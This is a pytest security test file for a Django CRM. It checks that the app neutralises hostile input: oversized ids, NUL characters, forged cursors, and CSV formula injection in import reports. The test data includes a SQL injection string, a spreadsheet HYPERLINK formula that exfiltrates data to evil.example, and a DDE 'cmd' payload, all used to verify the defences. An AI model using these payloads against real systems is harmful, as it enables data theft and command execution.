"""Hostile values that used to make the server answer 500: digits that are not
ASCII, ids past 64 bits, NUL characters (PostgreSQL refuses them), forged
paging cursors of the wrong type, an over-long tag, a way back that is a bare
word, and formulas in the import report. Each is refused with an error naming
the field, or ignored like the page's other invalid filter values; nothing is
half-written."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from connexion.api.services import create_token
from connexion.imports import services as import_services
from connexion.lib.http import MAX_ID, parse_id
from connexion.people.models import Organization, Person, SavedView, Source, Tag
from connexion.sales.models import Deal, Pipeline
from tests.accounts.helpers import code_for, enrol, enter_code
from tests.conftest import PASSWORD
from tests.imports.helpers import csv_bytes, map_columns, uploaded_job
from tests.security.conftest import table_counts
from tests.security.test_injection import TYPED_CURSORS, cursor_of, found

pytestmark = pytest.mark.django_db

ROLES = {"sales": "sales", "officer": "privacy_officer"}
SUPERSCRIPT_TWO = "²"  # str.isdigit() says yes; int() fails
PAST_64_BITS = str(2**70)
NUL_TEXT = "Acme\x00"
# A well-formed moment on a day that does not exist, and one without its offset.
IMPOSSIBLE_DAY_CURSOR = cursor_of(["2026-02-30T10:00:00+00:00", 1])
NAIVE_CURSOR = cursor_of(["2026-01-30T10:00:00", 1])
WRONG_TYPE_CURSORS = [*TYPED_CURSORS, IMPOSSIBLE_DAY_CURSOR, NAIVE_CURSOR]


@pytest.fixture
def api(make_user) -> Client:
    _token, raw = create_token(make_user("apiuser", roles=("admin",), language="en"))
    return Client(HTTP_AUTHORIZATION=f"Bearer {raw}", HTTP_ACCEPT_LANGUAGE="en")


def error_fields(response) -> list[str]:
    assert response.status_code == 422, response.content[:300]
    assert response["Content-Type"].startswith("application/json")
    return [error["field"] for error in response.json()["errors"]]


def post_json(client: Client, url: str, body: dict, method: str = "post"):
    return getattr(client, method)(url, json.dumps(body), content_type="application/json")


# --- the shared id parser -------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("42", 42),
        ("007", 7),
        (str(MAX_ID), MAX_ID),
        (17, 17),
        (SUPERSCRIPT_TWO, None),
        ("٣", None),  # Arabic-Indic three: int() reads it, but it is no id typed here
        ("１", None),  # full-width one
        ("-1", None),
        ("1.5", None),
        (" 1", None),
        ("0x10", None),
        ("", None),
        (None, None),
        (True, None),
        (-1, None),
        (str(MAX_ID + 1), None),
        (PAST_64_BITS, None),
        ("9" * 5000, None),  # past int()'s own limit on digits
    ],
)
def test_an_id_is_ascii_digits_within_64_bits(value, expected):
    assert parse_id(value) == expected


# --- ids in the pages' query strings ----------------------------------------------------

ID_PARAMETERS = [
    ("sales", "/people/", "organization"),
    ("sales", "/sales/deals/new/", "person"),
    ("sales", "/sales/leads/new/", "person"),
    ("sales", "/sales/board/", "owner"),
    ("officer", "/audit/", "before"),
    ("officer", "/data-protection/requests/", "assignee"),
    ("officer", "/data-protection/requests/new/", "person"),
    ("officer", "/data-protection/disclosures/new/", "person"),
]


@pytest.mark.parametrize(("role", "url", "param"), ID_PARAMETERS)
def test_an_id_that_is_not_one_is_ignored_by_the_page(role, url, param, login, bystanders):
    client = login(role, ROLES[role])
    for value in (SUPERSCRIPT_TWO, PAST_64_BITS):
        response = client.get(url, {param: value})
        assert response.status_code == 200, value
        if url == "/sales/board/":
            assert response.context["owner"] is None
        if url == "/data-protection/requests/":
            assert response.context["filters"].assignee == ""


def test_a_template_id_that_is_not_one_picks_the_first_template(sales, bystanders):
    url = f"/comms/people/{bystanders['person'].pk}/email/"
    first = sales.get(url).context["form"].initial["template"]
    for value in (SUPERSCRIPT_TWO, PAST_64_BITS):
        response = sales.get(url, {"template": value})
        assert response.status_code == 200, value
        assert response.context["form"].initial["template"] == first


def test_a_looked_up_record_that_is_not_one_is_a_form_error(sales, bystanders):
    stage = Pipeline.objects.get(is_default=True).stages.first()
    for typed in (f"#{SUPERSCRIPT_TWO}", f"#{PAST_64_BITS} Somchai"):
        response = sales.post(
            "/sales/deals/new/",
            {"title": "x", "stage": stage.pk, "person": typed, "owner": sales.user.pk},
        )
        assert response.status_code == 422, typed
        errors = response.context["form"].errors
        assert errors["person"] == ["Choose a record from the suggestions."], typed
        listed = sales.get("/people/", {"organization": typed})
        assert listed.status_code == 200, typed
        assert "organization" in listed.context["form"].errors, typed
    assert Deal.objects.count() == 1


# --- ids in the API's filters and lists -------------------------------------------------

API_ID_FILTERS = [
    ("/api/v1/persons", "owner"),
    ("/api/v1/persons", "organization"),
    ("/api/v1/deals", "owner"),
    ("/api/v1/deals", "person"),
    ("/api/v1/deals", "organization"),
    ("/api/v1/deals", "pipeline"),
    ("/api/v1/deals", "stage"),
    ("/api/v1/leads", "owner"),
    ("/api/v1/products", "partner"),
    ("/api/v1/interests", "product"),
    ("/api/v1/activities", "person"),
    ("/api/v1/activities", "staff"),
    ("/api/v1/tasks", "assignee"),
    ("/api/v1/notes", "deal"),
]


@pytest.mark.parametrize(("url", "param"), API_ID_FILTERS)
def test_an_api_id_past_64_bits_is_a_422_naming_the_filter(url, param, api, bystanders):
    assert api.get(url, {param: "1"}).status_code == 200
    assert error_fields(api.get(url, {param: PAST_64_BITS})) == [param]
    assert error_fields(api.get(url, {param: "0"})) == [param]


def test_an_api_list_of_ids_past_64_bits_is_a_422_naming_the_item(api, bystanders):
    before = table_counts()
    response = post_json(
        api,
        "/api/v1/activities",
        {
            "kind": "call",
            "subject": "x",
            "occurred_at": "2026-01-05T10:00:00+07:00",
            "person_id": bystanders["person"].pk,
            "participant_ids": [2**70],
        },
    )
    assert error_fields(response) == ["participant_ids.0"]
    assert response.json()["errors"][0]["message"] == f"Enter a number of at most {MAX_ID}."
    assert table_counts() == before


# --- NUL characters -----------------------------------------------------------------------


def test_a_nul_in_a_page_search_is_ignored_like_any_invalid_filter(sales, officer, bystanders):
    listed = sales.get("/organizations/", {"q": NUL_TEXT})
    assert listed.status_code == 200
    assert found(listed) == [bystanders["organization"]]
    for url, shown in [("/people/lookup/", "Somchai"), ("/organizations/lookup/", "Acme")]:
        response = sales.get(url, {"field": "q", "q": f"{shown}\x00"})
        assert response.status_code == 200, url
        assert shown in response.content.decode(), url
    consents = officer.get("/data-protection/consents/", {"purpose": "direct-marketing\x00"})
    assert consents.status_code == 404


@pytest.mark.parametrize("url", ["/people/views/save/", "/sales/views/save/"])
def test_a_saved_view_with_a_nul_is_not_saved(url, sales):
    response = sales.post(url, {"name": "mine\x00", "query_string": "q=x"})
    assert response.status_code == 302
    assert not SavedView.objects.exists()


@pytest.mark.parametrize(
    ("url", "param"),
    [
        ("/api/v1/persons", "q"),
        ("/api/v1/persons", "tag"),
        ("/api/v1/organizations", "q"),
        ("/api/v1/deals", "q"),
        ("/api/v1/leads", "q"),
        ("/api/v1/products", "q"),
    ],
)
def test_a_nul_in_an_api_search_is_a_422_naming_it(url, param, api, bystanders):
    response = api.get(url, {param: NUL_TEXT})
    assert error_fields(response) == [param]
    assert response.json()["errors"][0]["message"] == "Null characters are not allowed."


def test_a_nul_in_an_api_body_is_a_422_naming_the_field_and_writes_nothing(api, bystanders):
    source = {"kind": "direct", "channel": "web_form"}
    before = table_counts()
    sources = Source.objects.count()
    refused = [
        ("/api/v1/persons", {"first_name_th": "a\x00b", "source": source}, "first_name_th"),
        (
            "/api/v1/persons",
            {"first_name_th": "a", "source": {**source, "note": "\x00"}},
            "source.note",
        ),
        ("/api/v1/persons", {"first_name_th": "a", "source": source, "tags": ["\x00"]}, "tags"),
        ("/api/v1/organizations", {"name_th": "a\x00b", "source": source}, "name_th"),
        ("/api/v1/leads", {"title": "a\x00b", "first_name": "Noi"}, "title"),
    ]
    for url, body, field in refused:
        assert error_fields(post_json(api, url, body)) == [field], url
    assert (table_counts(), Source.objects.count()) == (before, sources)
    renamed = post_json(api, "/api/v1/me", {"first_name": "a\x00b"}, method="patch")
    assert error_fields(renamed) == ["first_name"]
    assert api.get("/api/v1/me").json()["first_name"] == ""


# --- paging cursors of the wrong type -------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "sorts", "shown"),
    [
        ("/people/", ["updated"], "person"),
        ("/sales/", ["", "close_date", "amount", "updated"], "deal"),
        ("/sales/leads/", ["", "oldest"], "lead"),
    ],
)
def test_a_cursor_of_the_wrong_type_starts_the_page_again(url, sorts, shown, sales, bystanders):
    for sort in sorts:
        for cursor in WRONG_TYPE_CURSORS:
            response = sales.get(url, {"cursor": cursor, **({"sort": sort} if sort else {})})
            assert response.status_code == 200, (sort, cursor)
            assert found(response) == [bystanders[shown]], (sort, cursor)


def test_a_board_column_with_a_cursor_of_the_wrong_type_starts_again(sales, bystanders):
    stage = bystanders["deal"].stage
    for cursor in WRONG_TYPE_CURSORS:
        response = sales.get(f"/sales/board/stages/{stage.pk}/more/", {"cursor": cursor})
        assert response.status_code == 200, cursor
        assert response.context["cards"] == [bystanders["deal"]]


@pytest.mark.parametrize(
    ("url", "sort"),
    [
        ("/api/v1/activities", None),
        ("/api/v1/deals", "updated"),
        ("/api/v1/deals", "close_date"),
        ("/api/v1/deals", "amount"),
        ("/api/v1/leads", "newest"),
        ("/api/v1/leads", "oldest"),
        ("/api/v1/persons", "updated"),
    ],
)
def test_an_api_cursor_of_the_wrong_type_is_a_422_naming_the_cursor(url, sort, api, bystanders):
    """Sorted by a moment, a day or an amount: only a value of that type pages."""
    for cursor in WRONG_TYPE_CURSORS:
        response = api.get(url, {"cursor": cursor, **({"sort": sort} if sort else {})})
        assert error_fields(response) == ["cursor"], cursor


@pytest.mark.parametrize(
    ("url", "sort"),
    [
        ("/api/v1/persons", "name_en"),
        ("/api/v1/organizations", "name_th"),
        ("/api/v1/products", ""),
    ],
)
def test_an_api_cursor_on_a_text_sort_takes_text_only(url, sort, api, bystanders):
    for value in ["' OR 1=1 --", "2026-02-30T10:00:00+00:00"]:
        response = api.get(
            url, {"cursor": cursor_of([value, 1]), **({"sort": sort} if sort else {})}
        )
        assert response.status_code == 200, value
    for value in [{"nested": "object"}, 7, None, "a\x00b"]:
        response = api.get(
            url, {"cursor": cursor_of([value, 1]), **({"sort": sort} if sort else {})}
        )
        assert error_fields(response) == ["cursor"], value


# --- an over-long tag -------------------------------------------------------------------------


def test_a_tag_longer_than_60_characters_is_a_form_error_and_nothing_is_saved(sales, bystanders):
    long_tag = "x" * 61
    sources = Source.objects.count()
    created = sales.post(
        "/people/new/",
        {
            "source_kind": "direct",
            "source_channel": "phone",
            "first_name_th": "น้อย",
            "lifecycle_stage": "prospect",
            "tags": f"vip, {long_tag}",
        },
    )
    assert created.status_code == 200
    assert created.context["form"].errors["tags"] == ["A tag is too long: at most 60 characters."]
    assert Person.objects.count() == 1 and Source.objects.count() == sources
    assert not Tag.objects.exists()

    person = bystanders["person"]
    edited = sales.get(f"/people/{person.pk}/edit/").context["form"].initial
    data = {name: value for name, value in edited.items() if value is not None}
    data.update(owner="", employer="", first_name_en="Changed", tags=f"vip, {long_tag}")
    response = sales.post(f"/people/{person.pk}/edit/", data)
    assert response.status_code == 200
    assert response.context["form"].errors["tags"] == ["A tag is too long: at most 60 characters."]
    person.refresh_from_db()
    assert person.first_name_en == "Somchai"
    assert not Tag.objects.exists()


def test_an_api_tag_longer_than_60_characters_is_a_422_naming_tags(api, bystanders):
    before = table_counts()
    response = post_json(
        api,
        "/api/v1/organizations",
        {"name_th": "ก", "tags": ["x" * 61], "source": {"kind": "direct", "channel": "web_form"}},
    )
    assert error_fields(response) == ["tags"]
    assert table_counts() == before and not Organization.objects.filter(name_th="ก").exists()


# --- a way back that is a bare word --------------------------------------------------------------


def test_a_way_back_that_is_no_path_goes_home(db):
    """Not a path, so not taken for the name of a view either."""
    for next_url in ("home", "index", "people:person_list"):
        response = Client().post("/account/language/", {"language": "en", "next": next_url})
        assert response.status_code == 302, next_url
        assert response["Location"] == "/", next_url


def test_a_way_back_that_is_no_path_after_the_code_step_goes_home(make_user):
    user = make_user("somsri", language="en")
    enrol(user)
    client = Client()
    client.post("/account/sign-in/", {"username": "somsri", "password": PASSWORD, "next": "home"})
    response = enter_code(client, code_for(user))
    assert response.status_code == 302
    assert response["Location"] == "/"


# --- formulas in the import report ---------------------------------------------------------------


def test_the_import_report_writes_formulas_as_text(sales):
    formula = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
    job = uploaded_job(
        sales,
        "people.csv",
        csv_bytes([["ชื่อ", "อีเมล", "@SUM(1+1)"], [formula, "bad@", "+cmd|' /C calc'!A0"]]),
    )
    map_columns(sales, job)
    import_services.run_import(job.pk)
    report = sales.get(f"/people/import/{job.pk}/report.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(report)))
    cells = [cell for row in rows for cell in row]
    assert len(rows) == 2
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {f"'{formula}", "'@SUM(1+1)", "'+cmd|' /C calc'!A0"} <= set(cells)


@pytest.mark.parametrize(
    "cursor",
    [
        cursor_of(["2026-11-26T05:00:00+00:00", 1, 2**70]),  # an id past 64 bits
        cursor_of(["2026-11-26T05:00:00", 1, 5]),  # a moment without its offset
        cursor_of(["2026-11-26T05:00:00+00:00", 10**30, 5]),  # no such kind
        cursor_of(["2026-13-45T99:99:99+00:00", 1, 5]),  # no such day
        cursor_of([None, None, None]),
    ],
)
def test_a_forged_timeline_cursor_starts_the_timeline_again(cursor, sales, bystanders):
    person = bystanders["person"]
    first = sales.get(f"/sales/timeline/person/{person.pk}/").content.decode()
    response = sales.get(f"/sales/timeline/person/{person.pk}/", {"cursor": cursor})
    assert response.status_code == 200
    # The deal's opening stage change is on the first page: it is shown again.
    assert first.count('class="entry ') >= 1
    assert response.content.decode().count('class="entry ') == first.count('class="entry ')
